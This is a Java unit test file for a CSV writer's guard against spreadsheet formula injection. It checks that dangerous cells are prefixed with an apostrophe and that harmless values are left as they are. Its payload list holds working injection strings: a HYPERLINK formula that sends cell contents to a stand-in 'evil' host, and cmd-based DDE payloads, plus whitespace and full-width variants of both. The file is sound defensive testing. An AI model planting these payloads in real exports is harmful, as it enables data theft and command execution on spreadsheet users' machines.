package org.gongkai.disclosure.data;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Cells as a spreadsheet reads them back: a formula, in any column, arrives as text. */
class CsvWriterTest {

    /** The outside attack's payloads, and targets from the bundled Songjiang content. */
    private static final List<String> ATTACKS = List.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "=1.00(篇/人)", "=96.00(次)",
            "=5(=cmd|' /C calc'!A0)");

    /** White space a spreadsheet skips before a formula: ASCII, ideographic, no-break and other Unicode spaces. */
    private static final List<String> LEADING_SPACES = List.of(" ", "  ", "\t", "\r", "\n", "\r\n", "\u3000",
            "\u00A0", "\u2003", "\u202F", "\u0085", "\u2028", " \u3000\t");

    static Stream<String> formulas() {
        List<String> attacks = Stream.concat(ATTACKS.stream(),
                ATTACKS.stream().map(a -> fullWidth(a.charAt(0)) + a.substring(1))).toList();
        Stream<String> spaced = LEADING_SPACES.stream().flatMap(space -> attacks.stream().map(a -> space + a));
        // A tab or a carriage return first is enough for some spreadsheets; the operator column's "=" alone is a
        // formula, and so is a number that is not plain (a sign, a space, an exponent).
        Stream<String> others = Stream.of("\tx", "\rx", "\t", "\r", "=", "+", "-", "@", "＝", "＋", "－", "＠", "+5",
                "+1.5", " -1.5", "-1.5 ", "-1,5", "-.5", "--1", "-1e5", "\u3000＋1");
        return Stream.of(attacks.stream(), spaced, others).flatMap(s -> s);
    }

    private static String fullWidth(char ascii) {
        return String.valueOf((char) (ascii - '!' + '！'));
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void aCellThatASpreadsheetWouldRunAsAFormulaReadsBackWithALeadingApostrophe(String formula) throws IOException {
        assertThat(readBack(formula)).isEqualTo("'" + formula);
    }

    static Stream<String> harmless() {
        return Stream.of("85.00", "-1.5", "1012497.70", "2024", "0", "-0", "2024-01-01", "有效", "≥85.00(%)", "≥90%",
                "次", "篇/人", "Stability maintenance fund", "a=b", "x+1", "1+1", "1-2", "\nfoo", " plain", "\u3000有效",
                "", "'=already quoted", "\u22125", "numeric", "a,b", "\"quoted\"");
    }

    @ParameterizedTest
    @MethodSource("harmless")
    void aCellThatIsNoFormulaReadsBackAsItIs(String text) throws IOException {
        assertThat(readBack(text)).isEqualTo(text);
    }

    @Test
    void aCellThatStartsWithALetterOrADigitIsNeverAFormula() {
        // The writer passes these without its patterns, as no letter or digit is white space or a formula's sign:
        // its pattern of a formula's start, as a spreadsheet sees one, never matches them.
        for (char c = 0; c < Character.MAX_VALUE; c++) {
            if (Character.isLetterOrDigit(c)) {
                assertThat(CsvWriter.FORMULA_START.matcher(c + "=1").lookingAt()).as("U+%04X", (int) c).isFalse();
            }
        }
    }

    @Test
    void aRowIsRfc4180WithTheGuardBeforeTheQuoting() {
        byte[] row = CsvWriter.row(Arrays.asList("=96.00(次)", "-1.5", "\r=1", "a,\"b\"", null, "2024"));
        assertThat(new String(row, StandardCharsets.UTF_8))
                .isEqualTo("'=96.00(次),-1.5,\"'\r=1\",\"a,\"\"b\"\"\",,2024\r\n");
    }

    /** The cell written between two others and parsed back by a CSV library. */
    private static String readBack(String cell) throws IOException {
        String text = new String(CsvWriter.row(List.of("before", cell, "after")), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
        assertThat(records).hasSize(1);
        assertThat(records.get(0).toList()).hasSize(3).startsWith("before").endsWith("after");
        return records.get(0).get(1);
    }
}
